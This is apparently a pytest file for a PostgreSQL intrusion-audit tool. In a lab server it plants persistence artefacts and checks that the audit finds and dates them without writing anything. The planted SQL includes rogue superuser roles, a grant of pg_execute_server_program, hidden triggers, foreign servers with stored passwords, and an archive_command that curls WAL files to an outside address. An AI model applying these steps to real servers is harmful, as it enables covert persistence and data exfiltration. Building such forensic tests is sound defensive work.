"""The PostgreSQL audit against real servers: finds all that was planted, dates it, and writes nothing."""

from __future__ import annotations

import re
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from leftopen.audit import AuditReport, Span, When, audit_for, audit_store
from leftopen.audits.postgresql import LOCAL
from leftopen.audits.postgresql.looks import CLUSTER, COMMITS, CONTROL, CRON, DATABASES, FILES, MOMENTS, RIGHTS_WITHOUT_CRON, RULERS
from leftopen.errors import StoreRefused
from leftopen.journal import Journal
from leftopen.lab.servers import Lab, Running
from leftopen.lab.servers.postgresql import sql
from leftopen.scope import parse_scope
from leftopen.wire import Wire

pytestmark = pytest.mark.servers


def run_audit(
    running: Running, tmp_path: Path, monkeypatch, window: Span, dsn: str = "", password: str | None = None
) -> AuditReport:
    parts = urlsplit(dsn or running.owner_dsn)
    bare = f"{parts.scheme}://{parts.username}@{parts.hostname}:{parts.port}{parts.path}"
    monkeypatch.setenv("AUDIT_SECRET", parts.password or "" if password is None else password)
    scope = parse_scope(
        {
            "scope": {
                "name": "audit",
                "authorised_by": "The owner",
                "basis": "own server",
                "contact": "owner@example.org",
                "valid_until": datetime.now(UTC) + timedelta(hours=1),
            },
            "grant": [{"dsn": bare, "depth": "names", "credential": "env:AUDIT_SECRET"}],
            "budget": {"connections_per_second_per_host": 100},
        }
    )
    wire = Wire(scope, Journal(tmp_path / "journal.jsonl"))
    target = next(scope.targets())
    with wire.door(target, audit_for(bare).commands) as door:
        return audit_store(door, bare, window)


@pytest.fixture(scope="module")
def planted():
    """A Debian PostgreSQL 15 that lived, was open for a while, and lived on: (lab, running, opened, closed, instants)."""
    with Lab() as lab:
        running = lab.postgresql("auth", version="debian")

        def do(text: str, database: str = "") -> str:
            return sql(lab, running, text)

        def live(seconds: float) -> None:
            for _ in range(int(seconds / 0.1)):
                do("INSERT INTO school.events (what) VALUES ('tick')")
                time.sleep(0.1)

        do("CREATE SCHEMA IF NOT EXISTS school")
        do("CREATE TABLE school.events (id serial, what text, at timestamptz DEFAULT now())")
        do("CREATE TABLE school.loaded (at timestamptz)")
        for day in range(20):
            do(f"INSERT INTO school.loaded VALUES (now() - interval '{40 - day} days')")
        do("CREATE ROLE honest SUPERUSER LOGIN")
        live(1)
        opened = datetime.now(UTC)
        live(1)
        instants = {"from": datetime.now(UTC)}
        do("CREATE ROLE helpdesk SUPERUSER LOGIN PASSWORD 'x'")
        instants["to"] = datetime.now(UTC)
        live(0.5)
        do("CREATE ROLE quiet LOGIN")
        do("GRANT pg_execute_server_program TO quiet")
        do("ALTER ROLE quiet SET session_preload_libraries = 'evil'")
        do("CREATE FUNCTION public.totals() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'")
        do("CREATE FUNCTION public.watch() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'")
        do("CREATE EVENT TRIGGER watcher ON ddl_command_end EXECUTE FUNCTION public.watch()")
        do("CREATE FUNCTION public.echo() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'")
        do("CREATE TRIGGER echoes AFTER INSERT ON school.loaded FOR EACH ROW EXECUTE FUNCTION public.echo()")
        do("CREATE RULE diverted AS ON DELETE TO school.loaded DO ALSO NOTIFY x")
        do("CREATE EXTENSION postgres_fdw")
        do("CREATE SERVER away FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '203.0.113.9', dbname 'd')")
        do("CREATE USER MAPPING FOR PUBLIC SERVER away OPTIONS (user 'u', password 'hidden-mapping-password')")
        do("CREATE PUBLICATION everything FOR ALL TABLES")
        do("CREATE SUBSCRIPTION pull CONNECTION 'host=203.0.113.9 password=hidden-sub-password' PUBLICATION p WITH (connect=false)")
        do("SELECT pg_create_physical_replication_slot('drain')")
        do("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC")
        do("SELECT lo_create(4711)")
        do("CREATE TABLE public.cmd_out (line text)")
        do("CREATE TABLE public.readme_to_recover (a int, b text)")
        do("ALTER SYSTEM SET archive_command = 'curl http://203.0.113.9/%f'")
        live(1)
        closed = datetime.now(UTC)
        live(1)
        do("CREATE ROLE later SUPERUSER")
        live(1)
        yield lab, running, Span(opened, closed), instants


INSIDE = [
    ("account", "helpdesk"),
    ("account", "quiet"),
    ("membership", "quiet in pg_execute_server_program"),
    ("role setting", "quiet in every database"),
    ("function", "public.totals()"),
    ("function", "public.watch()"),
    ("function", "public.echo()"),
    ("event trigger", "watcher"),
    ("trigger", "echoes on loaded"),
    ("rule", "diverted on loaded"),
    ("extension", "postgres_fdw"),
    ("foreign server", "away"),
    ("publication", "everything"),
    ("default rights", "postgres in every schema"),
    ("output table", "public.cmd_out"),
    ("note", "public.readme_to_recover"),
    ("large objects", "of postgres"),
]
UNDATED = [("user mapping", "public on away"), ("replication slot", "drain")]


@pytest.fixture(scope="module")
def seen(planted, tmp_path_factory):
    """The audit with pg_read_all_data and pg_monitor, the server's log of it, and dumps before and after."""
    lab, running, window, _ = planted
    with pytest.MonkeyPatch.context() as patch:
        before = snapshot(lab, running)
        lab.watch(running)
        report = run_audit(running, tmp_path_factory.mktemp("audit"), patch, window)
        sent = lab.executed(running)
        return report, sent, before, snapshot(lab, running)


def snapshot(lab: Lab, running: Running) -> str:
    counts = "SELECT string_agg(x, E'\\n' ORDER BY x) FROM ("
    tables = ("pg_authid", "pg_proc", "pg_class", "pg_auth_members", "pg_trigger", "pg_extension", "pg_database")
    union = " UNION ALL ".join(f"SELECT '{t}' || ' ' || xmin || ' ' || ctid AS x FROM {t}" for t in tables)
    rows = sql(lab, running, "SELECT count(*) || ' ' || max(id) FROM school.events")
    return rows + sql(lab, running, f"{counts}{union}) y")


def of(report: AuditReport, kind: str, name: str):
    found = [a for a in report.artefacts if a.kind == kind and a.name.split(": ")[-1] == name]
    assert found, f"{kind} {name} not found among {[(a.kind, a.name) for a in report.artefacts]}"
    return found[0]


@pytest.mark.parametrize(("kind", "name"), INSIDE)
def test_what_a_visitor_left_is_found_and_dated_inside(seen, kind, name) -> None:
    artefact = of(seen[0], kind, name)
    assert artefact.dated is When.INSIDE, (artefact.between, artefact.by)


@pytest.mark.parametrize(("kind", "name"), UNDATED)
def test_what_carries_no_date_is_found_and_left_undated(seen, kind, name) -> None:
    artefact = of(seen[0], kind, name)
    assert artefact.dated is When.UNDATABLE
    assert artefact.suspicious


def test_honest_artefacts_are_not_accused(seen) -> None:
    report = seen[0]
    assert of(report, "account", "postgres").dated is When.BEFORE
    assert of(report, "account", "honest").dated is When.BEFORE
    assert of(report, "account", "later").dated is When.AFTER


def test_the_bracket_holds_the_true_moment_and_is_narrow(planted, seen) -> None:
    instants = planted[3]
    low, high = of(seen[0], "account", "helpdesk").between
    assert low <= instants["to"]
    assert high >= instants["from"]
    assert (high - low).total_seconds() < 2


def test_times_loaded_from_elsewhere_are_no_ruler(seen) -> None:
    rulers = [fact for fact in seen[0].facts if "insertion times" in fact]
    assert any("school.events.at" in fact for fact in rulers)
    assert not any("school.loaded" in fact for fact in rulers)


def test_no_secret_is_in_the_report(seen) -> None:
    text = repr(seen[0])
    assert "hidden-" not in text
    assert "SCRAM-SHA" not in text


def test_never_clean_and_says_what_to_renew(seen) -> None:
    report = seen[0]
    assert "clean" not in report.verdict.lower()
    assert report.rotate
    assert "18 artefacts" in report.verdict or len(report.inside) >= len(INSIDE)


def test_only_declared_reads_were_sent(seen) -> None:
    fixed = [look.sql for look in (*CLUSTER, *LOCAL)] + [CONTROL, CRON, DATABASES, FILES, MOMENTS, RIGHTS_WITHOUT_CRON, RULERS]
    flat = {squeeze(f"COPY ({text}) TO STDOUT (FORMAT binary)") for text in fixed}
    for statement in seen[1]:
        text = squeeze(statement)
        known = text in flat or text in ("BEGIN TRANSACTION", "ROLLBACK", "BEGIN") or "SELECT xmin::text AS xid" in text
        assert known or text.startswith(
            ("SELECT oid, typname,", "SELECT attrelid, attname,", "SELECT version()", squeeze(COMMITS)[:40])
        ), text


def squeeze(text: str) -> str:
    return re.sub(r"\s+", " ", text.replace("( ", "(").replace("\n", " ")).strip().replace("( ", "(").replace(" )", ")")


def test_every_look_was_understood(seen) -> None:
    assert [gap.detail for gap in seen[0].hidden if gap.reason == "refused"] == []


def test_nothing_was_written(seen) -> None:
    assert seen[2] == seen[3]


def test_a_superuser_sees_settings_rules_and_subscriptions(planted, tmp_path, monkeypatch) -> None:
    lab, running, window, _ = planted
    sql(lab, running, "CREATE ROLE owner SUPERUSER LOGIN PASSWORD 'owner-secret'")
    parts = urlsplit(running.owner_dsn)
    dsn = f"postgresql://owner@{parts.hostname}:{parts.port}/postgres"
    report = run_audit(running, tmp_path, monkeypatch, window, dsn, "owner-secret")
    assert of(report, "file setting", "archive_command").suspicious
    assert "203.0.113.9" in of(report, "subscription", "pull").detail
    assert of(report, "subscription", "pull").dated is When.INSIDE
    assert any(a.kind == "entry rule" for a in report.artefacts)
    assert not any(gap.reason == "rights" for gap in report.hidden)
    assert "hidden-" not in repr(report)


def test_a_poor_role_sees_less_and_says_so(planted, tmp_path, monkeypatch) -> None:
    lab, running, window, _ = planted
    sql(lab, running, "CREATE ROLE poor LOGIN PASSWORD 'poor-secret'")
    parts = urlsplit(running.owner_dsn)
    report = run_audit(
        running, tmp_path, monkeypatch, window, f"postgresql://poor@{parts.hostname}:{parts.port}/postgres", "poor-secret"
    )
    helpdesk = of(report, "account", "helpdesk")
    assert (helpdesk.dated, helpdesk.suspicious) == (When.UNDATABLE, True)
    told = " ".join(gap.detail for gap in report.hidden)
    for word in ("dates of accounts", "pg_hba.conf", "ALTER SYSTEM", "subscriptions", "settings that run programs"):
        assert word in told


def test_a_wrong_password_is_one_clear_error_without_it(planted, tmp_path, monkeypatch) -> None:
    _, running, window, _ = planted
    with pytest.raises(StoreRefused) as caught:
        run_audit(running, tmp_path, monkeypatch, window, password="wrong-secret")
    assert "wrong-secret" not in repr(caught.value) + str(caught.value.__context__ and caught.value.__cause__)
